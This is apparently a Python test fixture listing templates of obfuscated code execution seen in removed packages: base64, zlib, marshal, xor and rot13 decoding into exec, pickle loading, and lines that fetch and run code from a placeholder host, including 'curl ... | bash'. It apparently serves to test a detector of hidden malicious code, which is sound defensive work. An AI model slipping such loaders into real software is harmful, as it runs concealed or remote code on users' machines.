"""Code that nobody can read before it runs, as it is found in packages that were taken down."""

from tests.trust.fifth.styles import Style

PLAIN = (
    Style("exec of base64", 'exec(base64.b64decode("$b64"))', "import base64"),
    Style("eval of base64", 'eval(base64.b64decode("$eval64").decode())', "import base64"),
    Style(
        "exec of what was compressed",
        'exec(zlib.decompress(base64.b85decode("$zip85")).decode())',
        "import base64\nimport zlib",
    ),
    Style(
        "compiled, then run",
        'code = compile(bytes.fromhex("$hex").decode(), "<string>", "exec")\nexec(code)',
    ),
    Style(
        "marshal",
        'exec(marshal.loads(zlib.decompress(bytes.fromhex("$marsh"))))',
        "import marshal\nimport zlib",
    ),
    Style(
        "import of os by name",
        """__import__("os").system(bytes.fromhex("$sh").decode())""",
    ),
    Style(
        "shell that decodes",
        'subprocess.run("echo $sh64 | base64 -d | sh", shell=True)',
        "import subprocess",
    ),
    Style(
        "pickle in the source",
        'pickle.loads(base64.b64decode("$pick"))',
        "import base64\nimport pickle",
    ),
    Style(
        "fetched and run",
        'exec(requests.get("https://$host/stage.py", timeout=5).text)',
        "import requests",
    ),
    Style(
        "fetched, written, imported",
        """
        with open("/tmp/$mod.py", "wb") as file:
            file.write(urllib.request.urlopen("https://$host/m.py").read())
        sys.path.insert(0, "/tmp")
        importlib.import_module("$mod")
        """,
        "import importlib\nimport sys\nimport urllib.request",
    ),
    Style(
        "file beside that is no code",
        'exec(open(os.path.join(os.path.dirname(__file__), "$up", "_assets", "$mod.txt")).read()[12:])',
        "import os",
        beside={"_assets/$mod.txt": "# notes ----\n$code"},
    ),
    Style(
        "helper that decodes",
        'unpack_$word("$b64")',
        "from $mod import unpack_$word",
        """
        from base64 import b64decode as decode


        def unpack_$word(text):
            space = {}
            exec(decode(text).decode("utf-8"), space)
            return space
        """,
    ),
    Style("hex with eval", 'eval(compile(bytes.fromhex("$hex"), "", "exec"))'),
    Style("rot13", 'exec(codecs.decode($rot, "rot13"))', "import codecs"),
    Style(
        "numbers",
        'exec("".join(chr(one) for one in [$chars]))',
    ),
    Style("xor", "exec(bytes(one ^ $key for one in [$xored]).decode())"),
    Style(
        "popen of hex",
        'os.popen(bytes.fromhex("$sh").decode()).read()',
        "import os",
    ),
    Style(
        "python with a text",
        """
        subprocess.Popen([sys.executable, "-c", base64.b64decode("$b64").decode()])
        """,
        "import base64\nimport subprocess\nimport sys",
    ),
    Style(
        "package that runs at import",
        "$mod",
        "import $mod",
        """
        import base64

        _data = "$b64"
        exec(compile(base64.b64decode(_data), __name__, "exec"), globals())
        """,
        package=True,
    ),
    Style(
        "loaded from a temporary file",
        """
        with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as file:
            file.write(base64.b64decode("$b64"))
        runpy.run_path(file.name)
        """,
        "import base64\nimport runpy\nimport tempfile",
    ),
    Style(
        "downloaded program",
        """
        target = pathlib.Path(tempfile.gettempdir()) / "$word"
        target.write_bytes(httpx.get("https://$host/bin").content)
        target.chmod(0o755)
        subprocess.Popen([str(target)])
        """,
        "import pathlib\nimport subprocess\nimport tempfile\n\nimport httpx",
    ),
    Style(
        "curl into a shell",
        'os.system("curl -fsSL https://$host/install.sh | bash")',
        "import os",
    ),
)
